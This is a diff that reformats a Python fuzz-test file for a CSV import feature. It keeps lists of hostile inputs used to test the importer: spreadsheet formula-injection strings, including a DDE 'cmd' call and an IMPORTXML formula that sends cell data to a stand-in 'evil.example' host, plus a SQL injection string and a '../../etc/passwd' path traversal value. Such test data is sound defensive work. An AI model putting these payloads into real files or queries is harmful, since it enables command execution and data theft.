@@ -35,34 +35,114 @@ from tests.support.fuzz import examples, tried
 from tests.support.stores import dump
 
 NOW = datetime(2026, 11, 22, 12, tzinfo=UTC)
-FORMULAS = ['=HYPERLINK("http://evil.example","click")', "=1+2", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
-            "=cmd|' /C notepad'!'A1'", "\t=1+1", "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")"]
-HOSTILE_TEXT = [*FORMULAS, "<!channel>", "<@U0EVIL>", "*bold*", "&amp;", '"', '""', "'", ",", "\n", "\r", "\r\n",
-                " ", "\x00", "\ufeff", "\u200b", "\u202e", "é", "🙂", "NULL", "None", "nan", "inf", "-inf", "1e309",
-                "-0", "0x1F", "1,234.50", "$12.00", "12.00 USD", "€5", "-5", "", "  ", "Robert'); DROP TABLE orders;--"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example","click")',
+    "=1+2",
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "=cmd|' /C notepad'!'A1'",
+    "\t=1+1",
+    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
+]
+HOSTILE_TEXT = [
+    *FORMULAS,
+    "<!channel>",
+    "<@U0EVIL>",
+    "*bold*",
+    "&amp;",
+    '"',
+    '""',
+    "'",
+    ",",
+    "\n",
+    "\r",
+    "\r\n",
+    " ",
+    "\x00",
+    "\ufeff",
+    "\u200b",
+    "\u202e",
+    "é",
+    "🙂",
+    "NULL",
+    "None",
+    "nan",
+    "inf",
+    "-inf",
+    "1e309",
+    "-0",
+    "0x1F",
+    "1,234.50",
+    "$12.00",
+    "12.00 USD",
+    "€5",
+    "-5",
+    "",
+    "  ",
+    "Robert'); DROP TABLE orders;--",
+]
 VALID = {
-    "id": ["o1", "o2", "C1", "U0REP0001", "x"], "customer_id": ["C1", "C2", "c1", "C 3"],
-    "ordered_at": ["2026-01-31", "2026-01-31T09:30:00-05:00", "20260131", "2026-02-30", "1969-12-31", "2101-01-01",
-                   "2024-01-02 10:00:00 -0500", "yesterday"],
+    "id": ["o1", "o2", "C1", "U0REP0001", "x"],
+    "customer_id": ["C1", "C2", "c1", "C 3"],
+    "ordered_at": [
+        "2026-01-31",
+        "2026-01-31T09:30:00-05:00",
+        "20260131",
+        "2026-02-30",
+        "1969-12-31",
+        "2101-01-01",
+        "2024-01-02 10:00:00 -0500",
+        "yesterday",
+    ],
     "amount": ["12.5", "0", "1,234.50", "$12.00", "12.00 USD", "-1", "nan", "1e309"],
-    "currency": ["USD", "eur", "US", "€"], "status": ["paid", "refunded", "cancelled", "succeeded", "weird"],
-    "tz": ["UTC", "Europe/Berlin", "Mars/Olympus", "../../etc/passwd"], "active": ["true", "no", "maybe"],
-    "kind": ["nps", "csat", "ces", "NPS", "other"], "score": ["10", "0", "5", "11", "-1", "7.5"],
-    "submitted_at": ["2026-03-01", "not a date"], "created_at": ["2025-01-01"], "churned_at": ["2026-06-30", ""],
+    "currency": ["USD", "eur", "US", "€"],
+    "status": ["paid", "refunded", "cancelled", "succeeded", "weird"],
+    "tz": ["UTC", "Europe/Berlin", "Mars/Olympus", "../../etc/passwd"],
+    "active": ["true", "no", "maybe"],
+    "kind": ["nps", "csat", "ces", "NPS", "other"],
+    "score": ["10", "0", "5", "11", "-1", "7.5"],
+    "submitted_at": ["2026-03-01", "not a date"],
+    "created_at": ["2025-01-01"],
+    "churned_at": ["2026-06-30", ""],
 }
-HEADER_NOISE = ["", " ", "id", "ID ", "Order Date", "Client", "total", "\ufeffid", "name,with,commas", "=SUM(A1)",
-                "Financial Status", "Lineitem name", "Created date (UTC)", "Amount Refunded", "Captured"]
+HEADER_NOISE = [
+    "",
+    " ",
+    "id",
+    "ID ",
+    "Order Date",
+    "Client",
+    "total",
+    "\ufeffid",
+    "name,with,commas",
+    "=SUM(A1)",
+    "Financial Status",
+    "Lineitem name",
+    "Created date (UTC)",
+    "Amount Refunded",
+    "Captured",
+]
 
 
 # Values each structural column accepts; the free-text columns (names,
 # companies, emails, comments) take anything, hostile text included.
 GOOD = {
-    "customer_id": ["C1", "C2", "C3"], "ordered_at": ["2026-01-31", "2026-01-31T09:30:00-05:00", "20260131"],
-    "amount": ["12.5", "0", "1,234.50", "$12.00", "12.00 USD"], "currency": ["USD", "eur"],
-    "status": ["paid", "refunded", "succeeded"], "tz": ["UTC", "Europe/Berlin"], "active": ["true", "no"],
-    "kind": ["nps", "csat", "ces"], "score": ["1", "3", "5"], "submitted_at": ["2026-03-01"],
-    "created_at": ["2025-01-01"], "churned_at": ["2026-06-30", ""], "id": ["C1", "C2", "U0REP0001", "o1", "o2"],
-    "owner_rep_id": ["U0REP0001", ""], "manager_id": ["U0REP0002", ""],
+    "customer_id": ["C1", "C2", "C3"],
+    "ordered_at": ["2026-01-31", "2026-01-31T09:30:00-05:00", "20260131"],
+    "amount": ["12.5", "0", "1,234.50", "$12.00", "12.00 USD"],
+    "currency": ["USD", "eur"],
+    "status": ["paid", "refunded", "succeeded"],
+    "tz": ["UTC", "Europe/Berlin"],
+    "active": ["true", "no"],
+    "kind": ["nps", "csat", "ces"],
+    "score": ["1", "3", "5"],
+    "submitted_at": ["2026-03-01"],
+    "created_at": ["2025-01-01"],
+    "churned_at": ["2026-06-30", ""],
+    "id": ["C1", "C2", "U0REP0001", "o1", "o2"],
+    "owner_rep_id": ["U0REP0001", ""],
+    "manager_id": ["U0REP0002", ""],
 }
 
 
@@ -88,15 +168,25 @@ def import_files(draw) -> tuple[str, str | None, str, bytes]:
     else:
         header = draw(st.lists(st.one_of(st.sampled_from(ours), st.sampled_from(HEADER_NOISE)), max_size=9))
     fields = [h if h in FIELDS[kind] else "" for h in header]
-    rows = draw(st.lists(st.tuples(*(cell(f, clean) for f in fields)) if fields else st.just(()),
-                         min_size=1 if clean else 0, max_size=6))
+    rows = draw(
+        st.lists(
+            st.tuples(*(cell(f, clean) for f in fields)) if fields else st.just(()),
+            min_size=1 if clean else 0,
+            max_size=6,
+        )
+    )
     if clean and "id" in fields:  # one id per row; some of them already in the store (an update)
         at, first = fields.index("id"), draw(st.integers(0, 3))
-        rows = [(*r[:at], GOOD["id"][0][0] + str(first + n) if kind != "reps" else f"U0REP{first + n:04d}", *r[at + 1:])
-                for n, r in enumerate(rows)]
+        rows = [
+            (*r[:at], GOOD["id"][0][0] + str(first + n) if kind != "reps" else f"U0REP{first + n:04d}", *r[at + 1 :])
+            for n, r in enumerate(rows)
+        ]
     out = io.StringIO()
-    writer = csv.writer(out, lineterminator=draw(st.sampled_from(["\n", "\r\n", "\r"])),
-                        quoting=draw(st.sampled_from([csv.QUOTE_MINIMAL, csv.QUOTE_ALL, csv.QUOTE_NONNUMERIC])))
+    writer = csv.writer(
+        out,
+        lineterminator=draw(st.sampled_from(["\n", "\r\n", "\r"])),
+        quoting=draw(st.sampled_from([csv.QUOTE_MINIMAL, csv.QUOTE_ALL, csv.QUOTE_NONNUMERIC])),
+    )
     writer.writerow(header)
     for row in rows:
         if clean or draw(st.booleans()):
@@ -168,8 +258,12 @@ NAMED = {
     "UTF-16 with BOM": ("orders", None, "o.csv", "customer_id,ordered_at,amount\nC1,2026-01-01,5\n".encode("utf-16")),
     "Latin-1": ("customers", None, "c.csv", "id,name\nC1,Zoë Müller\n".encode("latin-1")),
     "NUL byte": ("orders", None, "o.csv", b"customer_id,ordered_at,amount\nC1,2026-01-01,5\x00\n"),
-    "NUL after the first 4 KB": ("orders", None, "o.csv",
-                                 b"customer_id,ordered_at,amount\n" + b"C1,2026-01-01,5\n" * 400 + b"C\x002,2026-01-01,5\n"),
+    "NUL after the first 4 KB": (
+        "orders",
+        None,
+        "o.csv",
+        b"customer_id,ordered_at,amount\n" + b"C1,2026-01-01,5\n" * 400 + b"C\x002,2026-01-01,5\n",
+    ),
     "unbalanced quote": ("orders", None, "o.csv", b'customer_id,ordered_at,amount\n"C1,2026-01-01,5\n'),
     "field over 1 MB": ("customers", None, "c.csv", b'id,name\nC1,"' + b"z" * 1_000_050 + b'"\n'),
     "1 MB line": ("orders", None, "o.csv", b"customer_id,ordered_at,amount\n" + b",".join([b"x"] * 500_000) + b"\n"),
@@ -178,7 +272,12 @@ NAMED = {
     "empty": ("orders", None, "o.csv", b""),
     "not a header": ("reps", None, "r.csv", b"=cmd|' /C calc'!A0\n1\n"),
     "huge time zone": ("reps", None, "r.csv", b"id,tz\nU0REP0001," + b"B" * 300_000 + b"\n"),
-    "huge amount": ("orders", None, "o.csv", b"customer_id,ordered_at,amount\nC1,2026-01-01," + b"9" * 400_000 + b"x\n"),
+    "huge amount": (
+        "orders",
+        None,
+        "o.csv",
+        b"customer_id,ordered_at,amount\nC1,2026-01-01," + b"9" * 400_000 + b"x\n",
+    ),
     "CDNOW of customers": ("customers", "cdnow", "c.txt", b"1 19970101 1 10.00\n"),
 }
 
@@ -223,7 +322,10 @@ def test_a_customer_file_without_some_columns_reimports_as_unchanged(store):
     again = import_file(db, "customers", partial, now=NOW)
     assert (again.added, again.updated, again.unchanged) == (0, 0, 1) and "No changes" in again.summary()
     assert db.execute("SELECT name, company, segment FROM customers WHERE id = 'CPART'").fetchone() == (
-        "Ann", "Acme", "SMB")
+        "Ann",
+        "Acme",
+        "SMB",
+    )
 
 
 @examples(100)
